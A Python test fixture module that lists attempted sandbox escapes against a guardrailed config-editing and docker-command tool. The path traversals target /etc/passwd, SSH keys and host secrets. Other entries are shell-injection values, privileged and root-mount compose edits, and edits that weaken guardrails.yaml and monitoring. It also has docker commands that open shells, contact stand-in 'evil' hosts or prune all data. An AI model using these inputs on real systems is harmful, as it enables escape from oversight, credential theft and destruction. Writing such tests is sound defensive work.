"""Ways out that somebody has tried: paths, edits, and docker and compose command lines."""

UP = "../" * 12
LINK = "config/link.env"
POOL = {"path": "config/api-server.env", "old_value": "DB_POOL_SIZE=1"}
COMPOSE = {"path": "config/docker-compose.yml"}

PATHS = (
    # spelling
    *("../host/secret.env", "config/../../host/secret.env", "config/../guardrails.yaml"),
    *(f"config/{UP}etc/passwd", f"{UP}etc/passwd", "config/sub/../../../host/secret.env"),
    *("/etc/passwd", "//etc/passwd", "/config/api-server.env", "etc/passwd", "guardrails.yaml"),
    *("config/..", "config/../", "config/.", "config/", "config", "config//api-server.env", ""),
    *(".", "..", "./config/api-server.env", "config/./api-server.env", "config/sub//../x.env"),
    *("config/../config/api-server.env", "Config/api-server.env", "CONFIG/api-server.env"),
    *("config-x/a.env", "configs/a.env", " config/api-server.env", "config\\..\\host\\secret.env"),
    *("config/..\\..\\host\\secret.env", "config\\api-server.env", "..\\host\\secret.env"),
    *("config\uff0f..\uff0fhost\uff0fsecret.env", "\u2024\u2024/host/secret.env"),
    *("config/api-server.env\0", "config/\0/../../host/secret.env", "config/api-server.env\0.txt"),
    *(
        "config/" + "a/" * 20 + "x.env",
        "config/" + "a" * 600,
        "file:///etc/passwd",
        "~/.ssh/id_rsa",
    ),
    *("$HOME/.env", "config/../$(id)", "http://127.0.0.1/config/a.env", "\\\\host\\share\\a.env"),
    # links and special files
    *(LINK, "config/relative.env", "config/inner.env", "config/loop.env", "config/proc.env"),
    *("config/dir/secret.env", "config/up/guardrails.yaml", "config/root/etc/passwd"),
    *("config/up/config/api-server.env", "config/up/up/host/secret.env", "config/link.env/x"),
    *("config/hard.env", "config/pipe.env", "config/socket.env", "config/sub", "config/dir"),
    # content that is no configuration
    *("config/large.env", "config/nul.env", "config/latin.env"),
)

EDITS = (
    # another value by another phrasing
    POOL | {"new_value": "DB_POOL_SIZE=20\nDB_POOL_SIZE=1"},
    POOL | {"new_value": "DB_POOL_SIZE=20\r\nLD_PRELOAD=/tmp/x.so"},
    POOL | {"new_value": "DB_POOL_SIZE=20\u2028PATH=/tmp"},
    POOL | {"new_value": "#DB_POOL_SIZE=20\nDB_POOL_SIZE=1"},
    POOL | {"new_value": "DB_POOL_SIZE=4"},
    POOL | {"new_value": "DB_POOL_SIZE=101"},
    POOL | {"new_value": "DB_POOL_SIZE=0"},
    POOL | {"new_value": "DB_POOL_SIZE=-3"},
    POOL | {"new_value": "DB_POOL_SIZE="},
    POOL | {"new_value": "DB_POOL_SIZE"},
    POOL | {"new_value": ""},
    POOL | {"new_value": "DB_POOL_SIZE=1_0"},
    POOL | {"new_value": "DB_POOL_SIZE=020"},
    POOL | {"new_value": "DB_POOL_SIZE=+20"},
    POOL | {"new_value": "DB_POOL_SIZE=2e1"},
    POOL | {"new_value": "DB_POOL_SIZE=0x14"},
    POOL | {"new_value": "DB_POOL_SIZE=20.0"},
    POOL | {"new_value": "DB_POOL_SIZE=\u0662\u0660"},
    POOL | {"new_value": 'DB_POOL_SIZE="20"'},
    POOL | {"new_value": "DB_POOL_SIZE='20'"},
    POOL | {"new_value": "DB_POOL_SIZE=20 # or 1"},
    POOL | {"new_value": "DB_POOL_SIZE=$(id)"},
    POOL | {"new_value": "DB_POOL_SIZE=${DB_POOL_MIN}"},
    POOL | {"new_value": "DB_POOL_SIZE=`id`"},
    POOL | {"new_value": "DB_POOL_SIZE=99999999999999999999999"},
    POOL | {"new_value": "POOL_SIZE=20"},
    POOL | {"new_value": "export DB_POOL_SIZE=20"},
    # other keys
    POOL | {"old_value": "# the shop", "new_value": "LD_PRELOAD=/tmp/x.so"},
    POOL | {"old_value": "DB_PASSWORD=hunter2", "new_value": "DB_PASSWORD=x"},
    POOL | {"key": "DB_PASSWORD", "old_value": "hunter2", "new_value": "x"},
    POOL | {"key": "DB_POOL_TIMEOUT", "old_value": "2", "new_value": "31"},
    POOL | {"key": "DB_POOL_TIMEOUT", "old_value": "2", "new_value": "NaN"},
    # the known good copy, and files that decide what runs or who watches
    {
        "path": "config/api-server.env.backup",
        "old_value": "DB_POOL_SIZE=20",
        "new_value": "DB_POOL_SIZE=1",
    },
    COMPOSE | {"old_value": "privileged: false", "new_value": "privileged: true"},
    COMPOSE | {"old_value": "user: nobody", "new_value": "user: root"},
    COMPOSE | {"old_value": "image: api", "new_value": "image: evil"},
    COMPOSE | {"old_value": "command: serve", "new_value": "command: sh"},
    COMPOSE | {"old_value": "./data:/data", "new_value": "/:/host"},
    COMPOSE | {"old_value": "command: serve", "new_value": "command: serve\n    cap_add: [ALL]"},
    COMPOSE | {"key": "services.api-server.privileged", "old_value": "false", "new_value": "true"},
    COMPOSE
    | {
        "key": "services.api-server.env_file",
        "old_value": "./api-server.env",
        "new_value": "/etc/shadow",
    },
    {"path": "config/prometheus.yml", "old_value": "5s", "new_value": "1d"},
    {"path": "config/app.yaml", "key": "pool.size", "old_value": "15", "new_value": "1"},
    {"path": "config/app.yaml", "key": "url", "old_value": "http://db", "new_value": "http://evil"},
    {"path": "config/app.yaml", "old_value": "size: 15", "new_value": "size: !!python/object x"},
    {"path": "config/app.yaml", "old_value": "size: 15", "new_value": "size: &a [*a]"},
    # through links
    {"path": LINK, "old_value": "1", "new_value": "2"},
    {"path": "config/hard.env", "old_value": "1", "new_value": "2"},
    {"path": "config/dir/secret.env", "old_value": "1", "new_value": "2"},
    {"path": "config/../guardrails.yaml", "old_value": "max: 100", "new_value": "max: 9"},
)

COMMANDS = (
    # another program, or a shell
    *(
        "id",
        "sh -c id",
        "bash",
        "sudo docker ps",
        "/usr/bin/docker ps",
        "./docker ps",
        "env docker ps",
    ),
    *("X=y docker ps", "docker.exe ps", "dockerd", "podman ps", "nerdctl ps", "kubectl get pods"),
    *("docker ps; id", "docker ps && id", "docker ps || id", "docker ps | sh", "docker ps & id"),
    *("docker restart $(id)", "docker restart `id`", "docker restart ${IFS}x", "docker ps\nid"),
    *("docker restart api-server > /etc/x", "docker restart api-server\rid", "docker ps\0"),
    *("docker restart api-server\u2028id", "docker restart \u0430pi-server", "docker\u00a0ps"),
    *('docker restart "api-server', "docker restart api\\-server", "docker restart {api-server,x}"),
    *(
        "docker restart api-server*",
        "docker restart ~",
        "docker restart !!",
        "docker restart a?i-server",
    ),
    # code of the caller's choice
    *("docker run -v /:/host alpine sh", "docker run --privileged alpine", "docker run alpine"),
    *("docker exec api-server sh", "docker exec -it api-server sh", "docker attach api-server"),
    *("docker create alpine", "docker start x", "docker container run alpine", "docker debug x"),
    *(
        "docker compose run api-server sh",
        "docker compose exec api-server sh",
        "docker compose watch",
    ),
    *("docker-compose run -v /:/h --entrypoint sh api-server -c id", "docker compose create"),
    *("docker compose start", "docker compose attach api-server", "docker compose alpha dry-run"),
    # the host, its files and its engine
    *(
        "docker cp api-server:/x .",
        "docker cp /etc/shadow api-server:/",
        "docker compose cp a:/x .",
    ),
    *("docker plugin install x", "docker commit api-server x", "docker export api-server"),
    *("docker save x", "docker load", "docker import x", "docker swarm init", "docker service ls"),
    *("docker stack deploy x", "docker node ls", "docker secret ls", "docker update --cpus 9 x"),
    *("docker volume create -o device=/ -o o=bind -o type=none x", "docker checkpoint create x y"),
    *("docker -H tcp://evil:2375 ps", "docker -Htcp://evil ps", "docker -DHtcp://evil ps"),
    *("docker --host=ssh://evil ps", "docker --host tcp://evil ps", "docker --tls ps"),
    *("docker --context evil ps", "docker -c evil ps", "docker context use evil"),
    *("docker --config /tmp/x ps", "docker --config=/tmp/x --help", "docker --config /tmp/x evil"),
    # destruction
    *(
        "docker rm -f api-server",
        "docker kill api-server",
        "docker stop api-server",
        "docker rmi x",
    ),
    *(
        "docker pause api-server",
        "docker system prune -af",
        "docker volume rm x",
        "docker image rm x",
    ),
    *(
        "docker network rm x",
        "docker container rm x",
        "docker compose down",
        "docker compose down -v",
    ),
    *("docker compose kill", "docker compose stop api-server", "docker compose rm -fsv api-server"),
    *("docker compose pause", "docker compose up -d --scale api-server=0 api-server"),
    *("docker compose up -d --remove-orphans api-server", "docker compose up -d -V api-server"),
    *("docker compose scale api-server=0", "docker-compose scale api-server=0"),
    # another compose file, project or environment
    *("docker compose -f /tmp/e.yml up -d api-server", "docker compose -f - up -d api-server"),
    *(
        "docker compose -f oci://evil/x up -d api-server",
        "docker compose -f https://evil/x.git up -d api-server",
    ),
    *(
        "docker compose -f config/../e.yml up -d api-server",
        "docker compose -f ./config/docker-compose.yml ps",
    ),
    *(
        "docker compose --file=config/docker-compose.yml up -d api-server",
        "docker compose -fx up -d api-server",
    ),
    *(
        "docker compose -f config/docker-compose.yml -f e.yml up -d api-server",
        "docker compose -p x up -d api-server",
    ),
    *(
        "docker compose --project-directory /tmp up -d api-server",
        "docker compose --env-file /etc/shadow ps",
    ),
    *("docker compose --project-name=x ps", "docker compose --profile x up -d api-server"),
    *(
        "docker compose up -d -f config/docker-compose.yml api-server",
        "docker compose --parallel 9 ps",
    ),
    # more than one service, or none
    *("docker compose up -d", "docker compose up -d api-server postgres", "docker compose restart"),
    *("docker compose restart api-server postgres", "docker restart", "docker compose up -d ''"),
    *(
        "docker compose up -d grafana",
        "docker restart ../api-server",
        "docker restart -- api-server",
    ),
    *(
        "docker compose up -d --no-deps -- api-server",
        "docker compose up api-server",
        "docker compose up -dd api-server",
    ),
    *("docker compose up -d -d api-server", "docker compose up -d --force-recreate api-server"),
    # secrets, and data that leaves
    *("docker compose config", "docker compose config --environment", "docker inspect api-server"),
    *(
        "docker compose push",
        "docker push x",
        "docker pull evil",
        "docker compose pull",
        "docker login",
    ),
    *(
        "docker build .",
        "docker buildx build .",
        "docker compose build",
        "docker compose publish x",
    ),
    *("docker compose up -d --build api-server", "docker compose up -d --pull always api-server"),
    *("docker tag a b", "docker trust sign x", "docker manifest push x", "docker search x"),
    # endless, or odd
    *(
        "docker compose logs -f api-server",
        "docker logs --follow api-server",
        "docker stats",
        "docker events",
    ),
    *("docker compose logs --tail x api-server", "docker compose logs --tail -1 api-server"),
    *("docker logs postgres", "docker ps -a", "docker ps --format x", "docker compose ps --all"),
    *(
        "docker",
        "docker-compose",
        "docker compose",
        "",
        " ",
        "docker compose frobnicate",
        "docker --version",
    ),
    *(
        "docker compose docker compose ps",
        "docker-compose compose ps",
        "docker restart " + "a" * 400,
    ),
)
